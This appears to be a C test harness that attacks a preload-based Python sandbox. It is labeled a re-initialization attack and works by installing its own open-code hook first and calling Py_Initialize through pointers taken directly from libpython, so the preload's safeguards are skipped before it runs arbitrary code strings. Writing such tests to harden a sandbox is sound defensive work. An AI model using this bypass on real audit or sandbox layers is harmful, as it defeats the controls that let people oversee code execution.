/* Re-initialization attack: the host sets its own open-code hook (PEP 578's intended use:
   verified code loading), so the preload's finalization backstop cannot be set, and starts the
   runtime through pointers from dlsym on libpython's handle (never the preload's Py_Initialize*).
   reinit_hook LIBPYTHON CODE1 CODE2 */
#include <dlfcn.h>
#include <stdio.h>
typedef void *(*import_t)(const char *);
typedef void *(*callm_t)(void *, const char *, const char *, ...);
static import_t import_module; static callm_t call_method;
static void *open_code(void *path, void *data) {
    void *io = import_module("_io");
    return io ? call_method(io, "open", "Os", path, "rb") : NULL;
}
int main(int argc, char **argv) {
    void *lib = dlopen(argv[1], RTLD_NOW | RTLD_GLOBAL);
    if (!lib) { fprintf(stderr, "dlopen: %s\n", dlerror()); return 2; }
    void (*init)(void) = dlsym(lib, "Py_Initialize");
    int (*fin)(void) = dlsym(lib, "Py_FinalizeEx");
    int (*run)(const char *, void *) = dlsym(lib, "PyRun_SimpleStringFlags");
    int (*set_hook)(void *(*)(void *, void *), void *) = dlsym(lib, "PyFile_SetOpenCodeHook");
    int *no_site = dlsym(lib, "Py_NoSiteFlag");
    import_module = dlsym(lib, "PyImport_ImportModule"); call_method = dlsym(lib, "PyObject_CallMethod");
    fprintf(stderr, "[reinit] own open-code hook -> %d\n", set_hook(open_code, NULL));
    for (int i = 2; i < argc; i++) {
        *no_site = 1; init();
        fprintf(stderr, "[reinit] runtime %d -> %d\n", i - 1, run(argv[i], NULL));
        fin();
    }
    return 0;
}
